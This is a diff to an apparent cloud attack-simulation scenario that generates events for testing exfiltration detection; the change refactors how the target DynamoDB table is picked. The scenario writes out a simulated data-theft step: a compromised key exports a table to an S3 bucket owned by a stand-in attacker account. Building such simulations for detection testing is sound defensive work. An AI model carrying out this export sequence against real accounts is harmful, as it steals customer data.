@@ -8,7 +8,7 @@
  * (detections/exfiltration.ts).
  */
 import { defineScenario } from 'trailsim';
-import { ATTACKER_ACCOUNT, actor, trace, victim } from './_kit.js';
+import { ATTACKER_ACCOUNT, actor, trace, victim, first } from './_kit.js';
 
 export default defineScenario({
   name: 'attack-dynamodb-export',
@@ -30,7 +30,7 @@ export default defineScenario({
     log(`account ${acct.id}; key of ${user.arn} used from ${ip}`);
 
     sim.advanceTo('2026-06-22T13:33:00Z');
-    const table = acct.resources('AWS::DynamoDB::Table', 'us-east-1')[0]?.name ?? 'customers';
+    const table = first(acct, 'AWS::DynamoDB::Table', 'customers', 'us-east-1');
     act('dynamodb:ListTables');
     sim.advance('30s');
     act('dynamodb:ExportTableToPointInTime', { tableArn: `arn:aws:dynamodb:us-east-1:${acct.id}:table/${table}`, s3Bucket: 'drop-7f3a91c2', s3BucketOwner: ATTACKER_ACCOUNT, exportFormat: 'DYNAMODB_JSON' }, { exactParams: true, response: null });
